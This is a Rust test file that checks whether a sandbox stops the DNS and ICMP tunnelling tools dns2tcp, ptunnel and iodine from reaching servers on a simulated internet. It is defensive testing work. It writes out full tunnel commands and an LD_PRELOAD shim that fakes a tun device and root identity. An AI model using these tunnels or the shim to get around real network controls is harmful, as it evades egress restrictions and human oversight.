//! Tunnelling tools from packages, inside sandboxes. Their servers stand in the virtual internet and hear nothing.

use crate::net::{Net, net};
use airlock_tests::{
    Who,
    internet::{IODINE, NAMESERVER, TUNNEL},
    not_applicable, skip, who,
};
use std::{
    fs,
    net::TcpListener,
    os::unix::fs::PermissionsExt as _,
    path::Path,
    process::Command,
    sync::{Mutex, PoisonError},
};

/// Runs a tunnel's near end and says something through it: `answered` if it came back, else `nothing`.
fn through(near_end: &str, port: u16) -> String {
    format!(
        r#"
import subprocess
def attempt():
    with socket.create_connection(("127.0.0.1", {port}), 4) as s:
        s.settimeout(4)
        s.sendall(b"tunnelled\n")
        return "answered" if s.recv(100) == b"tunnelled\n" else "nothing"
tunnel = subprocess.Popen("{near_end}".split(), stdout=open("tunnel.log", "w"), stderr=subprocess.STDOUT)
end, said = time.monotonic() + 6, "nothing"
while said != "answered" and tunnel.poll() is None and time.monotonic() < end:
    said = outcome(attempt)
    time.sleep(0.05)  # nobody tells when it listens
tunnel.kill()
tunnel.wait()
say(said if said == "answered" else "nothing")
"#
    )
}

/// The tunnels share a far end, and each test counts what arrives there.
static ALONE: Mutex<()> = Mutex::new(());

fn free_port() -> u16 {
    TcpListener::bind("127.0.0.1:0").and_then(|listener| listener.local_addr()).expect("a port").port()
}

#[test]
fn dns2tcp_gets_nothing_out() {
    let Some(net) = net() else { return };
    let _alone = ALONE.lock().unwrap_or_else(PoisonError::into_inner);
    let asked = || net.internet.queries("tunnel.test").len() + net.internet.packets_to(TUNNEL).len();
    let near_end = |server: &str, port: u16| format!("dns2tcpc -z tunnel.test -l {port} -r echo {server}");
    let before = asked();

    // Also where its own zone is allowed: a name below it is resolved when it is dialled, and never by TXT.
    for server in ["198.18.0.2", NAMESERVER, TUNNEL] {
        for flags in [&["--workspace", "rw"][..], &["--workspace", "rw", "--allow", "*.tunnel.test"]] {
            let said = net.inside(flags, &through(&near_end(server, 2222), 2222));
            assert_eq!(said, "nothing\n", "{server}: {}", net.world.read("tunnel.log"));
        }
    }

    assert_eq!(asked(), before, "something left");
    let port = free_port();
    let said = net.outside(&through(&near_end(NAMESERVER, port), port));
    assert_eq!(said, "answered\n", "the probe cannot fail: {}", net.world.read("tunnel.log"));
    assert!(asked() > before, "the probe cannot fail");
}

#[test]
fn ptunnel_gets_nothing_out() {
    let Some(net) = net() else { return };
    let _alone = ALONE.lock().unwrap_or_else(PoisonError::into_inner);
    let icmp = || net.internet.packets_to(TUNNEL).iter().filter(|packet| packet["protocol"] == 1).count();
    let before = icmp();
    let near_end = |port| format!("ptunnel -p {TUNNEL} -lp {port} -da 93.184.216.66 -dp 7000");

    let said = net.inside(&["--workspace", "rw", "--allow", TUNNEL], &through(&near_end(2222), 2222));

    assert_eq!(said, "nothing\n", "{}", net.world.read("tunnel.log"));
    assert_eq!(icmp(), before, "something left");
    if who() != Who::Root {
        return not_applicable("outside a sandbox too, only root may send raw packets");
    }
    let port = free_port();
    let said = net.outside(&through(&near_end(port), port));
    assert_eq!(said, "answered\n", "the probe cannot fail: {}", net.world.read("tunnel.log"));
    assert!(icmp() > before, "the probe cannot fail: {}", net.world.read("tunnel.log"));
}

/// Where a program may not have a tunnel's device, one is pretended, so that iodine gets as far as talking.
const PRETENDED: &str = r#"
#define _GNU_SOURCE
#include <dlfcn.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>
static int device = -1;
static int opened(const char *how, const char *path, int flags, int mode) {
    int ends[2];
    if (!strcmp(path, "/dev/net/tun")) return socketpair(AF_UNIX, SOCK_DGRAM, 0, ends) ? -1 : (device = ends[0]);
    return ((int (*)(const char *, int, int))dlsym(RTLD_NEXT, how))(path, flags, mode);
}
int open(const char *path, int flags, int mode) { return opened("open", path, flags, mode); }
int open64(const char *path, int flags, int mode) { return opened("open64", path, flags, mode); }
int ioctl(int fd, unsigned long request, void *with) {
    return fd == device ? 0 : ((int (*)(int, unsigned long, void *))dlsym(RTLD_NEXT, "ioctl"))(fd, request, with);
}
int system(const char *command) { return command ? 0 : 1; }
uid_t geteuid(void) { return 0; }
"#;

/// iodine in the workspace, and what pretends its device.
fn iodine(net: &Net) {
    let program = net.world.work().join("iodine");
    fs::copy(net.internet.file("iodine/usr/sbin/iodine"), &program).expect("iodine was unpacked");
    fs::set_permissions(&program, fs::Permissions::from_mode(0o755)).expect("a mode");
    net.world.write("pretended.c", PRETENDED);
    let made = Command::new("cc")
        .args(["-shared", "-fPIC", "-w", "-o", "pretended.so", "pretended.c"])
        .current_dir(net.world.work())
        .status();
    assert!(made.is_ok_and(|status| status.success()), "a C compiler");
}

/// Whether it says that it has a tunnel.
fn has_tunnel(log: &str) -> bool {
    log.contains("Connection setup complete")
}

#[test]
fn iodine_gets_nothing_out() {
    let Some(net) = net() else { return };
    let _alone = ALONE.lock().unwrap_or_else(PoisonError::into_inner);
    iodine(&net);
    let asked = || net.internet.queries("iodine.test").len() + net.internet.packets_to(IODINE).len();
    let script = |server: &str| {
        format!(
            "LD_PRELOAD=./pretended.so timeout 8 ./iodine -f -r -P secret {server} iodine.test 2>&1; exit 0"
        )
    };
    let before = asked();

    // Also where its own zone is allowed.
    for server in ["", NAMESERVER, IODINE] {
        let said = net.world.sh(["--allow", "*.iodine.test"], &script(server)).run().succeeded();
        assert!(said.contains("Opened") && !has_tunnel(&said), "{server}: {said}");
    }

    assert_eq!(asked(), before, "something left");
    let outside = Command::new("sh")
        .args(["-c", &script(NAMESERVER)])
        .current_dir(net.world.work())
        .output()
        .expect("sh");
    let said = String::from_utf8_lossy(&outside.stdout);
    assert!(has_tunnel(&said), "the probe cannot fail: {said}");
    assert!(asked() > before, "the probe cannot fail");
}

/// The control of all that: where nothing is in its way, packets go through.
#[test]
fn iodine_tunnels_where_nothing_is_in_its_way() {
    let Some(net) = net() else { return };
    if who() != Who::Root {
        return not_applicable("only root may make the tunnel's device");
    }
    if !Path::new("/dev/net/tun").exists() {
        return skip("no /dev/net/tun");
    }
    let _alone = ALONE.lock().unwrap_or_else(PoisonError::into_inner);
    iodine(&net);

    let probe = format!(
        r#"
import subprocess
tunnel = subprocess.Popen("./iodine -f -r -d reqdns0 -P secret {NAMESERVER} iodine.test".split(), stdout=open("tunnel.log", "w"), stderr=subprocess.STDOUT)
end, said = time.monotonic() + 15, "nothing"
while said != "ECONNREFUSED" and tunnel.poll() is None and time.monotonic() < end:
    said = reach("10.9.0.1", 9, wait=3)
    time.sleep(0.05)  # nobody tells when it is there
tunnel.kill()
tunnel.wait()
say(said)
"#
    );
    let said = net.outside(&probe);

    // Nobody listens there, and its kernel says so.
    assert_eq!(said, "ECONNREFUSED\n", "{}", net.world.read("tunnel.log"));
}
